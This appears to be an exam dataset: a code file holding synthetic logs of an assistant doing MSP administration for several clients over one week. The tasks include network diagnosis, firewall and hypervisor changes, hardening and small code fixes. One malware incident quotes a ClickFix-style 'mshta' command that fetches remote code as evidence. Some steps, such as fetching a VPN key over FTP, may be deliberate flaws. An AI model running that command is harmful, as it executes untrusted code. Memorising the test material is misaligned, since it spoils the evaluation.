/** Exam2 set, 11 to 15 May 2026. */
export const exam2Days2 = String.raw`
@ 2026-05-11 06:45 | sofie | Van Houtte Logistics | msp
> /msp Van Houtte Logistics #INC-330
= problem | vh-scan, VH-CORE | Why the hand scanners lose their connection at every shift change: address pool too small for lease time
> scanners vallen weg bij elke ploegwissel, al 14 meldingen in 3 weken, telkens reboot. nu structureel: wat is de oorzaak
$ ssh sv@vh-scan "grep -h DHCPDISCOVER /var/log/syslog | grep 'no free leases' | cut -c1-12 | uniq -c | tail -4"
|  61 May  8 14:00
|  58 May  8 06:00
|  60 May  7 22:00
$ ssh sv@vh-scan "grep -A4 10.20.40 /etc/dhcp/dhcpd.conf; grep -c 'binding state active' /var/lib/dhcp/dhcpd.leases"
| range 10.20.40.50 10.20.40.149; default-lease-time 86400;
| 100
$ ssh netadm@vh-core "show mac address-table vlan 40 | count Gi"
| Number of lines which match regexp = 54
. Pool van 100 met leases van 24 uur, drie ploegen van zo'n 55 toestellen met willekeurige MAC's: bij de wissel zijn er geen adressen meer. Op de core zie je er maar 54 tegelijk.
> helder, change voor korte leases maak ik zelf
= documentation | VH-CORE | Port list of the core switch written for the network binder
> nu toch op de core zit: poortlijst voor de map, csv + md
$ ssh netadm@vh-core "show interfaces description" > core.txt
w C:\Users\sofie\clients\van-houtte-logistics\docs\poortlijst.md
+ | Poort | Waarheen |
+ | Gi1/0/1 | hypervisor nic1 |
+ | Gi1/0/24 | uplink magazijn |
$ pandoc poortlijst.md -o poortlijst.pdf
. De poortlijst heeft 24 regels.

@ 2026-05-11 07:05 | gareth | Riverbend Brewing | msp
> /msp Riverbend Brewing #RB-95
= change | RB-EDGE | Firewall state timeout for the till network raised, as agreed after the analysis
> agreed w/ owner: pos vlan rule -> tcp established timeout 10800 on the edge
$ ssh admin@rb-edge.riverbend.local "pfctl -st | grep established; grep -n 'POS to DB' /cf/conf/config.xml"
| tcp.established 3600s
| 412: <descr>POS to DB</descr>
$ ssh admin@rb-edge.riverbend.local "cp /cf/conf/config.xml /root/config.bak; sed -i '' '412s|^|<statetimeout>10800</statetimeout>|' /cf/conf/config.xml && rm /tmp/config.cache && /etc/rc.filter_configure_sync && pfctl -vsr | grep -c 10800"
| 1
. The rule has 10800 s now, the old config is in /root/config.bak.
= maintenance | rb-pve | Node patched and old kernels removed, nightly backups pruned
> then patch the pve node
$180 ssh root@rb-pve "apt-get update -qq && apt-get -y dist-upgrade | tail -1 && apt-get -y autoremove --purge | tail -1"
| 44 upgraded, 3 newly installed
$ ssh root@rb-pve "for g in \$(qm list | awk 'NR>1{print \$1}'); do pvesm prune-backups local --vmid \$g --keep-last 5; done; reboot"
! 255
| Connection to rb-pve closed by remote host.
~ 5m
$ ssh root@rb-pve "pveversion; qm list | grep -c running"
| pve-manager/8.1.10
| 4
. Node is current and all four guests run.

@ 2026-05-11 07:30 | noor | Praxis Yilmaz | msp
> /msp Praxis Yilmaz #820
= security | PY-ARZT1, PY-EMPFANG | KBV security directive: screen lock, USB storage blocked and macros off on both workstations
> KBV IT-Sicherheitsrichtlinie, offene punkte härtung arbeitsplätze: bildschirmsperre 10min, usb sticks sperren, makros aus. arzt1 + empfang
$ psexec \\PY-ARZT1,PY-EMPFANG reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v InactivityTimeoutSecs /t REG_DWORD /d 600 /f
| The operation completed successfully.
$ psexec \\PY-ARZT1,PY-EMPFANG reg add HKLM\SYSTEM\CurrentControlSet\Services\USBSTOR /v Start /t REG_DWORD /d 4 /f
$ psexec \\PY-ARZT1,PY-EMPFANG reg add HKLM\SOFTWARE\Policies\Microsoft\office\16.0\word\security /v VBAWarnings /t REG_DWORD /d 4 /f
. Alle drei Punkte sind auf beiden Plätzen gesetzt.
> nachweis als screenshot macht die praxis

@ 2026-05-11 07:38 | noor | Stichting Het Baken | msp
> /msp Stichting Het Baken #611
= service_request | - | Distribution list for the board renewed with the new treasurer
> tussendoor baken: nieuwe penningmeester joost@hetbaken.nl in bestuur@ ipv wim
% Remove-DistributionGroupMember bestuur@hetbaken.nl -Member wim@hetbaken.nl -Confirm:$false; Add-DistributionGroupMember bestuur@hetbaken.nl -Member joost@hetbaken.nl
% Get-DistributionGroupMember bestuur@hetbaken.nl | ft Name
| Joost
| Ria
. Joost staat in bestuur@, Wim niet meer.

@ 2026-05-11 13:10 | sofie | - | dev | cwd=C:\Users\sofie\src\asset-labels
> /dev
= development | - | Label printing tool draws QR codes instead of barcodes
> qr ipv code128 op de labels
%3 git log --oneline -3
| 8c1f0aa labels: font
e C:\Users\sofie\src\asset-labels\labels.py
- from barcode import Code128
+ import segno
e C:\Users\sofie\src\asset-labels\labels.py
- Code128(tag).save(path)
+ segno.make(tag, error='m').save(path, scale=6)
%6 python -m pytest -q
! 1
| ModuleNotFoundError: No module named 'segno'
%12 pip install segno; python -m pytest -q
| 7 passed
. QR staat op het label, 7 tests ok.

@ 2026-05-12 06:30 | sofie | De Wilg Makelaars | msp
> /msp De Wilg Makelaars #5544
= problem | DW-RDS | Cause of the black screens after logon that come back every Monday: an app readiness task piles up firewall rules
> zwart scherm na aanmelden, elke maandag opnieuw, al sinds maart. workaround = herstart, nu oorzaak zoeken
% Invoke-Command -ComputerName DW-RDS { Get-WinEvent -FilterHashtable @{LogName='Application';Id=6006} | select -First 4 TimeCreated, Message }
| 11/05 08:02 The winlogon notification subscriber <Profiles> took 118 second(s)
| 04/05 08:01 The winlogon notification subscriber <Profiles> took 109 second(s)
% Invoke-Command -ComputerName DW-RDS { (gi 'HKLM:\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules').ValueCount; (gi 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Notifications').SubKeyCount }
| 84112
| 12
% Invoke-Command -ComputerName DW-RDS { Get-NetFirewallRule | group Owner | sort Count -Desc | select -First 3 Count, Name | ft }
|  412 S-1-5-21-..-1140
. Elke aanmelding voegt regels per gebruiker toe die nooit verdwijnen: 84.000 regels. Op maandag melden 40 man zich tegelijk aan en loopt het vast.
> dat is hem. DeleteUserAppContainersOnLogoff komt in een change
= change | DW-RDS | Registry value set that deletes app container rules at logoff, in the evening window
> change is al goedgekeurd zie ik, doe maar vanavond
~ 11h
> nu, iedereen is weg
% Invoke-Command -ComputerName DW-RDS { New-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy' DeleteUserAppContainersOnLogoff -PropertyType DWord -Value 1 -Force }
| DeleteUserAppContainersOnLogoff : 1
% Invoke-Command -ComputerName DW-RDS { Restart-Computer -Force }
~ 4m
% Invoke-Command -ComputerName DW-RDS { (Get-CimInstance Win32_OperatingSystem).LastBootUpTime }
| 12/05/2026 19:44
. De waarde staat, de server is herstart.

@ 2026-05-12 07:00 | gareth | Ashdown Architects | msp
> /msp Ashdown Architects #4418
= change | ASH-FW | Site-to-site tunnel to the new studio in Leeds configured on the firewall as planned
> leeds studio opens thurs. bovpn on the ASH-FW to 203.0.113.77, ikev2 aes256, nets 10.9.0.0/24 <-> 10.8.0.0/24
$ ssh -p 4118 admin@ash-fw "show bovpn-gateway"
| No gateway
$ ssh -p 4118 admin@ash-fw "configure; bovpn-gateway leeds remote 203.0.113.77 version ikev2; phase1 aes256-sha256 dh14; bovpn-tunnel leeds local 10.9.0.0/24 remote 10.8.0.0/24; exit"
! 1
| %Error: pre-shared key required
$ ssh -p 4118 admin@ash-fw "configure; bovpn-gateway leeds psk-file ftp://10.9.0.5/k; apply; show bovpn-tunnel leeds"
| leeds UP 10.9.0.0/24 <-> 10.8.0.0/24
. Tunnel is up.
= documentation | - | Page on booking meeting rooms written for the studio's handbook
> they also asked for a page for their handbook: how to book meeting rooms in outlook. their logo is in assets
w /Users/gareth/clients/ashdown-architects/handbook/rooms.md
+ # Booking a room
+ 1. New meeting, Room Finder
+ 2. Pick Studio or Loft
. One page with four steps.
> mention loft seats 6
e /Users/gareth/clients/ashdown-architects/handbook/rooms.md
- 2. Pick Studio or Loft
+ 2. Pick Studio (12) or Loft (6)
. Done.

@ 2026-05-12 09:00 | noor | - | normal
> /normal
= internal | - | Own on-call schedule for summer planned around holidays
> bereitschaftsrooster juni-aug voor ons drieën, vakanties: sofie wk 29-31, gareth wk 33-34, ik wk 27
w C:\Users\noor\intern\rooster-zomer.csv
+ week,bereitschaft
+ 27,Sofie
+ 28,Gareth
+ 29,Noor
. Iedereen heeft vier of vijf weken.
> gareth wil niet 2 achter elkaar
e C:\Users\noor\intern\rooster-zomer.csv
- 30,Gareth
+ 30,Noor
. Aangepast.

@ 2026-05-12 11:00 | noor | Riverbend Brewing | msp
> /msp Riverbend Brewing #RB-97
= development | - | Webhook for the brewery's web shop that sends orders to the label printer service, with tests
> repo rb-order-hook (fastapi). endpoint /orders moet hmac controleren, nu niet
$ git clone -q git@github.com:oursmsp/rb-order-hook.git && ls rb-order-hook
| app.py tests
e C:\Users\noor\clients\riverbend\rb-order-hook\app.py
- body = await request.json()
+ raw = await request.body()
+ if not hmac.compare_digest(sign(raw), request.headers.get('x-wc-webhook-signature', '')): raise HTTPException(401)
w C:\Users\noor\clients\riverbend\rb-order-hook\tests\test_hmac.py
+ def test_unsigned(client): assert client.post('/orders', json={}).status_code == 401
%5 uv run pytest -q
! 1
| E NameError: name 'sign' is not defined
e C:\Users\noor\clients\riverbend\rb-order-hook\app.py
- app = FastAPI()
+ app = FastAPI()
+ def sign(raw): return base64.b64encode(hmac.new(SECRET, raw, 'sha256').digest()).decode()
%5 uv run pytest -q
| 8 passed
. Ongetekende orders krijgen 401.
> pr
%4 gh pr create --fill
| https://github.com/oursmsp/rb-order-hook/pull/9
. PR 9.

@ 2026-05-13 06:35 | sofie | Boulangerie Garnier | msp
> /msp Boulangerie Garnier #G-23
= project | GAR-SRV | Replacement of Essentials server, phase 2: accounting files copied to the new server
> projet remplacement serveur garnier, phase 2: copier les données GAR-SRV vers le nouveau (10.80.0.6), lot compta d'abord
%300 Invoke-Command -ComputerName GAR-SRV { robocopy D:\Compta \\10.80.0.6\compta /MIR /COPY:DAT /R:1 /W:1 /NP /NFL | select -Last 6 }
| Fichiers : 22190 22188 0 0 2 0
% Invoke-Command -ComputerName GAR-SRV { Get-SmbOpenFile | ? Path -like 'D:\Compta*' | Close-SmbOpenFile -Force; robocopy D:\Compta \\10.80.0.6\compta /MIR /COPY:DAT /R:1 /W:1 /NP /NFL | select -Last 3 }
| Fichiers : 22190 2 22188 0 0 0
. Lot compta copié en entier. Reste de la phase 2 : Photos et Recettes.
> la suite lundi
= service_request | GAR-SRV | Mme Garnier's daughter gets read access to the recipes share
> au passage: Manon (fille) lecture seule sur Recettes
% Invoke-Command -ComputerName GAR-SRV { Grant-SmbShareAccess -Name Recettes -AccountName 'GARNIER\manon' -AccessRight Read -Force; icacls D:\Recettes /grant 'GARNIER\manon:(OI)(CI)RX' }
| 1 fichiers correctement traités
. Manon peut lire Recettes.

@ 2026-05-13 07:10 | gareth | Pemberton Vets | msp
> /msp Pemberton Vets #PV-251
= incident | PV-RECEP2 | Reception could not open the booking page because a support tool had left a proxy setting behind; removed
> recep2. "no internet" but teams works, PV-SRV01 is up
$ ssh adm@pv-recep2.pemberton.local "netsh winhttp show proxy & reg query \"HKU\S-1-5-21-77-1105\Software\Microsoft\Windows\CurrentVersion\Internet Settings\" /v ProxyServer"
| ProxyServer REG_SZ 127.0.0.1:8877
$ ssh adm@pv-recep2.pemberton.local "netstat -ano | findstr 8877"
! 1
$ ssh adm@pv-recep2.pemberton.local "reg add \"HKU\S-1-5-21-77-1105\Software\Microsoft\Windows\CurrentVersion\Internet Settings\" /v ProxyEnable /t REG_DWORD /d 0 /f"
. Nothing listens on 8877: a leftover of the vendor's Fiddler session from yesterday. Proxy is off.
> all good, she can book again
= maintenance | PV-SRV01 | Quarterly clean-up of the update server: declined and superseded updates removed, database reindexed
> wsus spring clean on srv01 while im in
$240 ssh adm@pv-srv01.pemberton.local "powershell Get-WsusServer | Invoke-WsusServerCleanup -DeclineSupersededUpdates -DeclineExpiredUpdates -CleanupObsoleteUpdates -CleanupUnneededContentFiles"
| Obsolete Updates Deleted:1412
| Diskspace Freed:88123412480
$150 ssh adm@pv-srv01.pemberton.local "sqlcmd -S np:\\.\pipe\MICROSOFT##WID\tsql\query -d SUSDB -i C:\it\reindex.sql"
. 82 GB freed, the database is reindexed.

@ 2026-05-13 08:20 | noor | Stichting Het Baken | msp
> /msp Stichting Het Baken #618
= security | HB-LT12 | Info-stealer alert on a laptop: file removed, full scan, browser sessions and password renewed
> defender alert baken HB-LT12 "Lumma"
% Get-MgSecurityAlertV2 -Filter "contains(title,'Lumma')" | fl Title, Status, CreatedDateTime
| 'LummaStealer' malware was prevented
%260 Invoke-Command -ComputerName HB-LT12.hetbaken.local { Start-MpScan -ScanType FullScan; Get-MpThreatDetection | select -First 2 Resources, ActionSuccess }
| C:\Users\els\Downloads\Captcha_fix.hta  True
% Invoke-Command -ComputerName HB-LT12.hetbaken.local { gp HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU; Get-ScheduledTask | ? Date -gt (Get-Date).AddDays(-2).ToString('s') }
| mshta https://cap-ok.example
% Revoke-MgUserSignInSession -UserId els@hetbaken.nl; Update-MgUser -UserId els@hetbaken.nl -PasswordProfile @{ForceChangePasswordNextSignIn=$true;Password=(Get-Content pw.txt)}
. Tegengehouden en verwijderd; uit voorzorg zijn sessies en wachtwoord vernieuwd. HB-LT05 had de melding niet.
= project | HB-LT05, HB-LT12 | Intune rollout, pilot: two laptops enrolled and compliance checked
> zelfde klant, intune uitrol pilot: deze twee laptops (LT05 en LT12) inschrijven, compliance check
% Invoke-Command -ComputerName HB-LT05,HB-LT12 { & C:\Windows\System32\deviceenroller.exe /c /AutoEnrollMDM; dsregcmd /status | sls 'AzureAdJoined|MdmUrl' }
| AzureAdJoined : YES
| AzureAdJoined : YES
~ 8m
% Get-MgDeviceManagementManagedDevice -Filter "startswith(deviceName,'HB-LT')" | ft DeviceName, ComplianceState
| HB-LT05 compliant
| HB-LT12 compliant
. Beide pilottoestellen zijn ingeschreven en compliant, fase 2 is de rest.

@ 2026-05-14 06:40 | sofie | Van Houtte Logistics | msp
> /msp Van Houtte Logistics #SEC-12
= security | VH-WMS, VH-HV01 | Penetration test findings fixed: LLMNR and NetBIOS off, SMB signing required, old TLS switched off
> pentest rapport punten 3,5,9 (llmnr/netbios, smb signing, tls1.0) dichtzetten op wms en de hypervisor. VH-SQL1 mag NIET, leverancier
% Invoke-Command -ComputerName VH-WMS,VH-HV01 { New-Item 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\DNSClient' -Force | Out-Null; sp 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\DNSClient' EnableMulticast 0; gwmi Win32_NetworkAdapterConfiguration -Filter IPEnabled=1 | % { $_.SetTcpipNetbios(2) } }
| ReturnValue : 0
| ReturnValue : 0
% Invoke-Command -ComputerName VH-WMS,VH-HV01 { Set-SmbServerConfiguration -RequireSecuritySignature $true -Force; Set-SmbClientConfiguration -RequireSecuritySignature $true -Force }
% Invoke-Command -ComputerName VH-WMS,VH-HV01 { Disable-TlsCipherSuite TLS_RSA_WITH_3DES_EDE_CBC_SHA; $p='HKLM:\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\TLS 1.0\Server'; New-Item $p -Force | Out-Null; sp $p Enabled 0 }
. De drie punten zijn dicht op beide, VH-SQL1 is niet aangeraakt.

@ 2026-05-14 07:10 | gareth | - | dev | cwd=/Users/gareth/src/dmarc-reports
> /dev
= development | - | DMARC report parser reads gzip attachments and groups by source
> gz attachments arent parsed, only zip
$ rg -n zipfile dmarc/
| dmarc/read.py:12:    with zipfile.ZipFile(path) as archive:
e /Users/gareth/src/dmarc-reports/dmarc/read.py
-     with zipfile.ZipFile(path) as archive:
+     if path.suffix == '.gz': return gzip.decompress(path.read_bytes())
+     with zipfile.ZipFile(path) as archive:
$4 uv run pytest -q
! 1
| E NameError: name 'gzip' is not defined
e /Users/gareth/src/dmarc-reports/dmarc/read.py
- import zipfile
+ import gzip
+ import zipfile
$4 uv run pytest -q
| 22 passed
. gz works too.
> commit, tag v0.4
$ git commit -qam "read gzip reports" && git tag v0.4 && git push -q --tags
. Tagged.

@ 2026-05-14 09:10 | noor | Praxis Yilmaz | msp
> /msp Praxis Yilmaz
= documentation | PY-SRV | Backup concept for the practice's data protection folder written from the real job settings
> für den datenschutzordner der praxis: 1 seite datensicherungskonzept. was wird wann wohin gesichert, vom PY-SRV auslesen
% Invoke-Command -ComputerName PY-SRV { Get-WBPolicy | fl Schedule, BackupTargets, VolumesToBackup; Get-WBSummary | fl LastSuccessfulBackupTime }
| Schedule : {21:00}
| BackupTargets : {RDX E:}
w C:\Users\noor\clients\praxis-yilmaz\datensicherungskonzept.md
+ # Datensicherungskonzept
+ Täglich 21:00 auf RDX, Wechsel wöchentlich, Aufbewahrung im Tresor.
. Das Konzept ist eine Seite lang.
> aufbewahrung 10 jahre patientenakten noch rein
e C:\Users\noor\clients\praxis-yilmaz\datensicherungskonzept.md
- Täglich 21:00 auf RDX
+ Patientenakten: 10 Jahre. Täglich 21:00 auf RDX
. Steht drin.
= problem | PY-ARZT1 | Why dictation stops several times a week on the doctor's PC: headset loses its hub when power management parks it
> letzte sache: arzt1 diktat bricht immer wieder ab, 8. ticket. bisher immer headset neu gesteckt. ursache finden bitte, noch nix umstellen
$ psexec \\PY-ARZT1 powershell "Get-WinEvent -FilterHashtable @{LogName='System';ProviderName='Microsoft-Windows-USB-USBHUB3'} -MaxEvents 4 | select TimeCreated, Id"
| 14.05.2026 10:40 43
| 12.05.2026 16:02 43
$ psexec \\PY-ARZT1 powershell "Get-WinEvent -FilterHashtable @{LogName='Application';ProviderName='Dragon*'} -MaxEvents 4 | select TimeCreated, Message"
| 14.05.2026 10:41 audio device lost
| 12.05.2026 16:02 audio device lost
$ psexec \\PY-ARZT1 powershell "Get-CimInstance MSPower_DeviceEnable -Namespace root/wmi | ? InstanceName -like 'USB\ROOT*' | select Enable"
| True
. Jeder Abbruch folgt einem Reset des USB-Hubs, dessen Energieverwaltung an ist. Das erklärt alle acht Fälle.
> ok known error anlegen

@ 2026-05-15 06:50 | sofie | - | normal
> /normal
= internal | - | Presentation for the own management about the ticket numbers of April
> cijfers april voor ons MT: export uit onze psa staat in downloads, maak 5 bullets
$ head -2 ~/Downloads/tickets-april.csv; wc -l ~/Downloads/tickets-april.csv
| id,klant,uren
| 312 tickets-april.csv
w C:\Users\sofie\intern\mt-april.md
+ - 311 tickets, 6% minder dan maart
+ - gemiddeld 41 minuten
. Vijf bullets staan klaar.
> prima voor het mt

@ 2026-05-15 07:20 | gareth | Riverbend Brewing | msp
> /msp Riverbend Brewing #RB-101
= service_request | RB-POS1 | Receipt printer for the taproom installed on the till at the manager's request
> taproom manager wants the new epson TM-m30 (10.5.3.60) on RB-POS1, default printer
$ ssh gw@rb-pos1 "powershell Add-PrinterPort -Name IP_60 -PrinterHostAddress 10.5.3.60; Add-Printer -Name Taproom -DriverName 'EPSON TM-m30' -PortName IP_60"
! 1
| Add-Printer : The specified driver does not exist.
$ ssh gw@rb-pos1 "pnputil /add-driver C:\it\tmm30\*.inf /install & powershell Add-PrinterDriver 'EPSON TM-m30'; Add-Printer -Name Taproom -DriverName 'EPSON TM-m30' -PortName IP_60; (New-Object -ComObject WScript.Network).SetDefaultPrinter('Taproom')"
. Taproom is installed and default.
> prints
= change | rb-web | Web shop's PHP limits raised for the large product pictures, requested and approved by the owner
> owner ok'd: upload_max 64M + memory 512M on the web box, php8.1
$ ssh gw@rb-web "sudo sed -i -e 's/^upload_max_filesize.*/upload_max_filesize = 64M/' -e 's/^post_max_size.*/post_max_size = 64M/' -e 's/^memory_limit.*/memory_limit = 512M/' /etc/php/8.1/fpm/php.ini && sudo php-fpm8.1 -t && sudo systemctl reload php8.1-fpm"
| NOTICE: configuration file test is successful
$ curl -s https://rb-web.riverbend.beer/phpinfo-x.php | grep -o 'upload_max_filesize.*64M' | head -1
| upload_max_filesize 64M
. Limits are live.

@ 2026-05-15 07:45 | noor | De Wilg Makelaars | msp
> /msp De Wilg Makelaars
= maintenance | DW-DC01, DW-PRT | Monthly patches on domain controller and print server, health check afterwards
> patchronde mei
%330 Invoke-Command -ComputerName DW-DC01,DW-PRT { Install-WindowsUpdate -AcceptAll -AutoReboot | ft KB, Result }
| KB5058385 Installed
| KB5058383 Installed
~ 8m
% Invoke-Command -ComputerName DW-DC01 { dcdiag /q; repadmin /replsummary }; Get-Service Spooler -ComputerName DW-PRT
| Running Spooler
. Beide servers zijn gepatcht en gezond.
> DW-RDS volgende week, die laten we nu met rust
`
